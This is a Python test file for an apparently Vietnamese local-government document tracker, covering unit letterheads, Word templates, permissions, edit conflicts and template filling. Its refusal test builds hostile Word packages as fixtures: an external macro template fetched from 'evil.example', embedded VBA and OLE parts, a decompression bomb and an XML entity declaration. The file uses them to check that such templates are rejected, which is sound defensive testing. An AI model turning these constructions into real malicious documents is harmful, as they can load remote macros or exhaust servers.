"""Letterheads and templates of units: who keeps them, what is refused, what papers make of them."""

import io
import zipfile
from dataclasses import replace

import pytest
from docx import Document
from docx.shared import Mm
from sqlalchemy import select

from tracker.accounts.permissions import Role
from tracker.attachments.rules import FileRefused
from tracker.core.errors import NotAllowed, Stale
from tracker.documents.models import KeptLetterhead, LetterheadTemplate
from tracker.documents.queries.letterheads import letterhead_of, template_row, unit_of, usual_issuer
from tracker.documents.rules.issuing import Letterhead
from tracker.documents.rules.layout import Issuer
from tracker.documents.rules.template import TemplateRefused, check_template
from tracker.documents.service.letterheads import keep_letterhead, keep_template, remove_template
from tracker.journal.models import JournalEntry
from tracker.places.rules import PlaceKind

WANTED = Letterhead(
    superior="",
    agency="ỦY BAN NHÂN DÂN\nXÃ MẪU",
    symbol="UBND",
    place_of_issue="Mẫu",
    authority="KT. CHỦ TỊCH",
    title="PHÓ CHỦ TỊCH",
    signer="Trần Văn Bình",
    recipients="Như trên;\nLưu: VT.",
    addressees="",
)


def a_template(*paragraphs):
    """Make a Word file of these paragraphs; its page has a margin of its own."""
    document = Document()
    document.sections[0].left_margin = Mm(35)
    for text in paragraphs:
        document.add_paragraph(text)
    file = io.BytesIO()
    document.save(file)
    return file.getvalue()


GOOD = a_template(
    "ĐƠN VỊ: {{CO_QUAN}}", "{{TEN_LOAI}} {{TRICH_YEU}}", "{{NOI_DUNG}}", "Ký: {{NGUOI_KY}}"
)


def with_part(content, name, text):
    """Add a part to a Word file, or replace one."""
    old, file = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
        for item in old.namelist():
            if item != name:
                package.writestr(item, old.read(item))
        package.writestr(name, text)
    return file.getvalue()


def test_a_letterhead_is_proposed_from_the_units_name_until_one_is_kept(session, make):
    admin, unit = make.user(role=Role.ADMIN), make.home
    proposed = letterhead_of(session, unit, Issuer.GOVERNMENT)
    assert (proposed.version, proposed.agency) == (0, "ỦY BAN NHÂN DÂN\nXÃ MẪU")
    assert proposed.signer == ""

    keep_letterhead(session, admin, unit, Issuer.GOVERNMENT, WANTED, 0)

    kept = letterhead_of(session, unit, Issuer.GOVERNMENT)
    assert (kept.version, kept.signer, kept.title) == (1, "Trần Văn Bình", "PHÓ CHỦ TỊCH")
    entry = session.scalars(select(JournalEntry).where(JournalEntry.action == "letterhead:kept"))
    assert entry.one().subject == f"{unit.key}/government"


def test_two_administrators_do_not_overwrite_each_other(session, make):
    admin, unit = make.user(role=Role.ADMIN), make.home
    keep_letterhead(session, admin, unit, Issuer.PARTY, WANTED, 0)
    with pytest.raises(Stale):
        keep_letterhead(session, admin, unit, Issuer.PARTY, WANTED, 0)


def test_a_unit_writes_as_the_issuer_that_was_chosen_last(session, make):
    admin, unit = make.user(role=Role.ADMIN), make.home
    assert usual_issuer(session, unit) is Issuer.GOVERNMENT
    chosen = Letterhead(**{**_fields(WANTED), "is_default": True})
    keep_letterhead(session, admin, unit, Issuer.GOVERNMENT, chosen, 0)
    keep_letterhead(session, admin, unit, Issuer.PARTY, chosen, 0)
    assert usual_issuer(session, unit) is Issuer.PARTY
    rows = session.scalars(select(KeptLetterhead).where(KeptLetterhead.is_default)).all()
    assert [row.issuer for row in rows] == [Issuer.PARTY]


def _fields(letters):
    names = Letterhead.__dataclass_fields__
    return {name: getattr(letters, name) for name in names}


def test_a_village_and_a_former_commune_write_as_the_commune_of_today(session, make):
    today = make.place(name="Xã Tiên Lục")
    former = make.place(name="Xã Nghĩa Hưng", successor_id=today.id)
    village = make.place(name="Thôn Chằm", kind=PlaceKind.VILLAGE, parent_id=former.id)
    assert unit_of(session, village.id).id == today.id
    assert unit_of(session, former.id).id == today.id


def test_staff_keep_no_letterhead(session, make):
    staff = make.user()
    with pytest.raises(NotAllowed):
        keep_letterhead(session, staff, make.home, Issuer.PARTY, WANTED, 0)
    with pytest.raises(NotAllowed):
        keep_template(session, staff, make.home, Issuer.PARTY, "mau.docx", GOOD)


def test_a_paper_is_written_into_the_units_own_template(session, make, visit):
    admin, dialogue = make.user(role=Role.ADMIN), make.dialogue(topic="Nước sạch")
    keep_letterhead(session, admin, make.home, Issuer.GOVERNMENT, WANTED, 0)
    keep_template(session, admin, make.home, Issuer.GOVERNMENT, "mau.docx", GOOD)

    answer = visit().get(f"/dialogues/{dialogue.code}/announcement.docx")

    document = Document(io.BytesIO(answer.data))
    texts = [paragraph.text for paragraph in document.paragraphs]
    assert texts[0] == "ĐƠN VỊ: ỦY BAN NHÂN DÂN\nXÃ MẪU"
    assert texts[-1] == "Ký: Trần Văn Bình"
    assert any("Nước sạch" in text for text in texts)
    assert not any("{{" in text or "CỘNG HÒA" in text for text in texts)
    assert round(document.sections[0].left_margin.mm) == 35

    remove_template(session, admin, make.home, Issuer.GOVERNMENT)
    assert session.scalars(select(LetterheadTemplate)).all() == []


def test_what_is_invented_says_so_over_a_template_too(session, make, visit):
    place = make.place(name="Xã Minh Hòa (hư cấu)", is_fictional=True)
    keep_template(session, make.user(role=Role.ADMIN), place, Issuer.GOVERNMENT, "mau.docx", GOOD)
    dialogue = make.dialogue(place=place)
    answer = visit(place=place).get(f"/dialogues/{dialogue.code}/announcement.docx")
    header = Document(io.BytesIO(answer.data)).sections[0].header
    assert header.paragraphs[0].text == "HƯ CẤU – dữ liệu minh họa"


def test_a_mark_that_word_cut_into_pieces_is_filled_in(session, make, visit):
    document = Document()
    paragraph = document.add_paragraph()
    for piece in ("Số {", "{SO_KY", "_HIEU}}"):
        paragraph.add_run(piece)
    document.add_paragraph("{{NOI_DUNG}}")
    file = io.BytesIO()
    document.save(file)
    admin, dialogue = make.user(role=Role.ADMIN), make.dialogue()
    keep_template(session, admin, make.home, Issuer.GOVERNMENT, "mau.docx", file.getvalue())
    answer = visit().get(f"/dialogues/{dialogue.code}/announcement.docx")
    assert Document(io.BytesIO(answer.data)).paragraphs[0].text == "Số ……/TB-UBND"


EXTERNAL = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm"'
    ' TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("mau.doc", GOOD),
        ("mau.docx", b"PK not a file"),
        ("mau.docx", a_template("Không có ký hiệu")),
        ("mau.docx", a_template("{{NOI_DUNG}}", "{{NOI_DUNG}}")),
        ("mau.docx", a_template("Nội dung: {{NOI_DUNG}}")),
        ("mau.docx", a_template("{{NOI_DUNG}}", "{{LA_LUNG}}")),
        ("mau.docx", with_part(GOOD, "word/vbaProject.bin", b"x")),
        ("mau.docx", with_part(GOOD, "word/embeddings/oleObject1.bin", b"x")),
        ("mau.docx", with_part(GOOD, "word/_rels/settings.xml.rels", EXTERNAL)),
        ("mau.docx", with_part(GOOD, "word/bomb.xml", b"\x00" * 50_000_000)),
        ("mau.docx", with_part(GOOD, "word/document.xml", "<w:document")),
        (
            "mau.docx",
            with_part(GOOD, "word/x.xml", '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
        ),
        ("mau.docx", GOOD + b"\x00" * (2 * 1024 * 1024)),
    ],
)
def test_a_broken_or_dangerous_template_is_refused(name, content):
    with pytest.raises(FileRefused):
        check_template(name, content)


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_a_scanner_sees_a_template_before_it_is_kept(app, visit, make, session, tmp_path):
    script = tmp_path / "scan.sh"
    script.write_text('#!/bin/sh\ncp "$1" "$(dirname "$0")/seen.docx"\nexit 1\n')
    script.chmod(0o700)
    app.config["SETTINGS"] = replace(app.config["SETTINGS"], scan_command=str(script))
    admin = visit(role=Role.ADMIN)
    address = f"/settings/letterheads/{make.home.key}/{Issuer.PARTY}"
    refused = admin.post(f"{address}/template", file=(io.BytesIO(GOOD), "mau.docx"))
    assert refused.status_code == 409
    assert (tmp_path / "seen.docx").read_bytes() == GOOD
    assert template_row(session, make.home, Issuer.PARTY) is None


def test_a_template_that_word_could_not_open_is_refused_before_it_is_kept(session, make):
    admin = make.user(role=Role.ADMIN)
    broken = with_part(GOOD, "word/_rels/document.xml.rels", "<Relationships/>")
    broken = with_part(broken, "_rels/.rels", "<Relationships/>")
    with pytest.raises(TemplateRefused):
        keep_template(session, admin, make.home, Issuer.PARTY, "mau.docx", broken)
    assert session.scalars(select(LetterheadTemplate)).all() == []


def test_the_page_of_a_letterhead_keeps_what_was_typed_and_tells_a_stale_save(visit, make):
    admin = visit(role=Role.ADMIN)
    address = f"/settings/letterheads/{make.home.key}/government"
    typed = {"agency": "ỦY BAN NHÂN DÂN\nXÃ MẪU", "symbol": "UBND", "version": "0"}
    assert "Hãy ghi ký hiệu." in admin.post(address, **typed | {"symbol": ""}).text
    assert admin.post(address, **typed | {"signer": "Lê Văn C"}).status_code == 303
    stale = admin.post(address, **typed | {"signer": "Phạm Thị D"})
    assert stale.status_code == 409
    assert "Lê Văn C" in stale.text
    assert "Phạm Thị D" in stale.text


def test_another_communes_letterhead_does_not_exist(visit, make):
    other, admin = make.place(), visit(role=Role.ADMIN)
    for ending in ("", "/template.docx", "/sample.docx"):
        address = f"/settings/letterheads/{other.key}/party{ending}"
        assert admin.get(address).status_code == 404
    assert admin.get(f"/settings/letterheads/{make.home.key}/church").status_code == 404


def test_the_template_to_begin_from_can_be_sent_back_as_it_is(visit, make):
    admin = visit(role=Role.ADMIN)
    address = f"/settings/letterheads/{make.home.key}/government"
    begun = admin.get(f"{address}/template.docx").data
    sent = {"file": (io.BytesIO(begun), "mau.docx")}
    assert admin.post(f"{address}/template", **sent).status_code == 303
    assert "mau.docx" in admin.get(address).text
    trial = Document(io.BytesIO(admin.get(f"{address}/sample.docx").data))
    assert "XÃ MẪU" in trial.tables[0].rows[0].cells[0].text
    assert "{{" not in trial.element.xml
    assert admin.post(f"{address}/template/remove").status_code == 303
